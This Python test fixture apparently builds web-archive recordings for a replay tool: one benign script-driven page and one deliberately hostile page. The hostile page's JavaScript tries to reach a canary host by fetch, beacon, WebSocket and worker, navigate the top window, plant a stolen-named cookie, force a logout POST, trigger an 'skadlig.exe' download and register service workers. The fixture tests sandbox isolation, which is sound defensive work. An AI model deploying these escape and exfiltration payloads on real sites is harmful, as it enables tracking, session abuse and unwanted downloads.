"""Two recorded pages: one made by scripts as platforms' are, one that tries to get out."""

from pathlib import Path

from tests.bundles.building import PAGE, PICTURE, SITE, Recording, png

API = "https://api.sundby.example"
CANARY = "http://ute.example"
"""What the unfriendly page tries to reach; its tests see whether anything arrives there."""

_APP = b"""<!doctype html><html lang="sv"><title>Sundby</title>
<link rel="stylesheet" href="https://api.sundby.example/style.css">
<div id="app">Laddar</div><img id="bild" src="/media/bro.png" alt="">
<a id="vidare" href="/sundbykommun/om">Om</a>
<script type="module" src="/app.js"></script>"""

_SCRIPT = f"""
localStorage.setItem("sedd", "ja");
const own = await (await fetch("{SITE}/own.json?page=" + 1)).json();
const asked = {{ method: "POST", headers: {{ "Content-Type": "application/json" }},
  body: JSON.stringify({{ q: "posts" }}) }};
const posted = await (await fetch("{API}/graphql", asked)).json();
const moved = await (await fetch("{API}/moved")).text();
const gone = await fetch("{API}/never");
document.getElementById("app").textContent = [location.pathname, own.name, posted.posts[0], moved,
  gone.status, localStorage.getItem("sedd"), navigator.serviceWorker.controller !== null].join("|");
""".encode()

_HOSTILE = f"""<!doctype html><title>Fientlig</title><p>Fientlig</p>
<link rel="stylesheet" href="{CANARY}/a.css"><img src="{CANARY}/b.png">
<iframe sandbox srcdoc="<img src={CANARY}/c.png>"></iframe>
<form id="form" method="post"></form>
<script>
const portal = location.ancestorOrigins[0]; // the page with the frame
const out = {{}};
const tried = async (name, act) => {{
  try {{ out[name] = String(await act()); }} catch (fault) {{ out[name] = "refused"; }}
}};
(async () => {{
  await tried("portal", async () => (await fetch(portal + "/", {{credentials: "include"}})).status);
  await tried("out", async () => (await fetch("{CANARY}/d", {{mode: "no-cors"}})).status);
  await tried("beacon", () => navigator.sendBeacon("{CANARY}/e", "x"));
  await tried("socket", () => new Promise((done, fail) => {{
    const socket = new WebSocket("ws://ute.example/f");
    socket.onopen = done; socket.onerror = fail; }}));
  await tried("parent", () => parent.document.title);
  await tried("top", () => {{ top.location = "{CANARY}/g"; return "sent"; }});
  await tried("opener", () => window.opener);
  await tried("open", () => window.open("{CANARY}/h"));
  await tried("worker", async () => {{
    await navigator.serviceWorker.register("/mine.js"); return "registered"; }});
  await tried("other", async () => {{
    await navigator.serviceWorker.register("/-/answer?url=x"); return "registered"; }});
  await tried("blob", () => new Promise((done, fail) => {{
    const text = `fetch("{CANARY}/i").then((r) => postMessage(r.status), () => postMessage("no"))`;
    const thread = new Worker(URL.createObjectURL(new Blob([text])));
    thread.onmessage = (event) => done(event.data); thread.onerror = fail; }}));
  for (const domain of ["", "; domain=localhost", "; domain=127.0.0.1"]) {{
    document.cookie = "ogonblick=stulen; path=/" + domain; }}
  await tried("cookie", () => document.cookie);
  parent.postMessage("hej", "*");
  const form = document.getElementById("form");
  form.action = portal + "/logga-ut"; form.submit();
  const link = document.createElement("a");
  link.href = URL.createObjectURL(new Blob(["skadlig"])); link.download = "skadlig.exe";
  link.click();
  const frame = document.createElement("iframe"); frame.src = portal + "/";
  document.body.append(frame);
  for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
  await tried("after", async () => (await fetch("{CANARY}/j", {{mode: "no-cors"}})).status);
  const told = document.createElement("pre");
  told.id = "told"; told.textContent = JSON.stringify(out); document.body.append(told);
}})();
</script>""".encode()


def record_app(folder: Path) -> None:
    """Write a recording of a page that scripts make, of answers from two origins."""
    with Recording(folder / "rec-20260302090000.warc.gz") as warc:
        warc.exchange(PAGE, "text/html; charset=utf-8", _APP)
        warc.exchange(f"{PAGE}/om", "text/html; charset=utf-8", b"<title>Om</title><p>Om oss</p>")
        warc.exchange(f"{SITE}/app.js", "text/javascript", _SCRIPT)
        warc.exchange(f"{API}/style.css", "text/css", b"#app { color: rgb(1, 2, 3) }")
        warc.exchange(PICTURE, "image/png", png())
        warc.exchange(f"{SITE}/own.json?page=1", "application/json", b'{"name":"Sundby"}')
        answer = b'{"posts":["Bron"]}'
        warc.exchange(f"{API}/graphql", "application/json", answer, posted=b'{"q":"posts"}')
        warc.exchange(f"{API}/moved", "text/plain", b"hit")


def record_hostile(folder: Path) -> None:
    """Write a recording of a page that tries every way out that we know of."""
    with Recording(folder / "rec-20260302090000.warc.gz") as warc:
        warc.exchange(PAGE, "text/html; charset=utf-8", _HOSTILE)
        warc.exchange(f"{SITE}/mine.js", "text/javascript", b"onfetch = () => {}")
